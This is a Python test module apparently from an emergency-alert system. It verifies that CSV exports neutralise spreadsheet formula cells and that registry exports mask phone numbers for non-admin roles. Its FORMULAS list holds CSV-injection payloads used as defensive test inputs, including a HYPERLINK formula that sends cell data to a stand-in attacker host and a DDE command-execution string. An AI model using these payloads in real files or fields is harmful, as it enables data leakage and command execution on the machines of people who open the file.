"""Exports are safe to open: no formula runs in a CSV, no full phone number leaves but to an admin.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` (or a tab or CR before them) as
a formula (OWASP: CSV Injection): a console confirmation's reason typed by an officer, a
provider's error text or a name in the registry could carry one. Every CSV warnbus writes goes
through `warnbus.flow.record.rows_csv`, which neutralises such cells with a leading `'` and quotes
every cell. The registry export (`/console/registry/export.zip`) carries full phone numbers
only for an admin (it re-imports as it is); other roles get them masked by the one masking
function, `warnbus.domain.models.mask_phone`.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

from tests.console.console_kit import console_client, sign_in
from tests.engine.helpers import Harness, cap_alert
from warnbus.domain.models import mask_phone
from warnbus.flow.credentials import ENGINE
from warnbus.flow.intake import accept
from warnbus.flow.record import RECORD_COLUMNS, rows_csv
from warnbus.runtime.app import token_hash
from warnbus.runtime.config import TokenSettings

OFFICER = "officer-token-exports"
#: Reasons an officer could type, each of which a spreadsheet would run as a formula.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0")


def _tokens(h: Harness) -> None:
    h.app.tokens = (TokenSettings("duty", token_hash(OFFICER), roles=("officer",)),)


def _reasons(text: str, column: str = "reason") -> set[str]:
    assert text.startswith("\ufeff")  # UTF-8 with a BOM, for spreadsheet programs
    rows = csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return {row[column] for row in rows if row[column]}


def test_rows_csv_neutralises_and_quotes_every_cell() -> None:
    row = dict.fromkeys(RECORD_COLUMNS, "")
    row.update(person_id="p1", name="-张三", detail="x;=1+2", reason="=1+2", step="0")
    text = rows_csv([row])
    (back,) = list(csv.DictReader(io.StringIO(text)))
    assert back["reason"] == "'=1+2" and back["name"] == "'-张三" and back["person_id"] == "p1"
    # Quoted: a spreadsheet that splits at ";" keeps "x;=1+2" in one cell.
    assert '"x;=1+2"' in text and text.startswith('"person_id","name",')


async def test_formula_cells_are_neutralised_in_the_api_and_console_record(redis_url: str
                                                                            ) -> None:
    async with console_client(redis_url, _tokens) as (client, h):
        res = await accept(h.ctx, cap_alert(codes=("430623101000",)), ENGINE)
        await h.drain()
        persons = sorted({d.target_id for d in h.sent("sms")})[:len(FORMULAS)]
        assert len(persons) == len(FORMULAS)
        for pid, reason in zip(persons, FORMULAS, strict=True):
            r = await client.post("/api/v1/acks", headers={"Authorization": f"Bearer {OFFICER}"},
                                  json={"campaign_id": res.campaign_id, "person_id": pid,
                                        "reason": reason})
            assert r.status == 200, await r.text()
        want = {"'" + reason for reason in FORMULAS}
        r = await client.get(f"/api/v1/alerts/{res.alert_id}/record?format=csv",
                             headers={"Authorization": f"Bearer {OFFICER}"})
        assert r.status == 200 and _reasons(await r.text()) == want
        await sign_in(client, "dora")
        r = await client.get(f"/console/campaigns/{res.campaign_id}/record.csv")
        assert r.status == 200 and _reasons(await r.text(), "原因/说明") == want


async def test_registry_export_masks_phones_for_every_role_but_admin(redis_url: str) -> None:
    async with console_client(redis_url) as (client, h):
        phones = {p.id: p.phone for p in h.ctx.registry.data.persons.values() if p.phone}
        assert len(phones) > 1000

        async def exported(user: str) -> tuple[str, dict[str, str]]:
            await sign_in(client, user)
            r = await client.get("/console/registry/export.zip")
            assert r.status == 200
            with zipfile.ZipFile(io.BytesIO(await r.read())) as z:
                text = "".join(z.read(n).decode() for n in z.namelist())
                persons = json.loads(z.read("persons.json"))
            return text, {p["id"]: p.get("phone") for p in persons if p.get("phone")}

        for user in ("dora", "alan", "both"):
            text, got = await exported(user)
            assert got == {pid: mask_phone(phone) for pid, phone in phones.items()}, user
            assert not any(phone in text for phone in phones.values()), user
        _text, got = await exported("root")
        assert got == phones
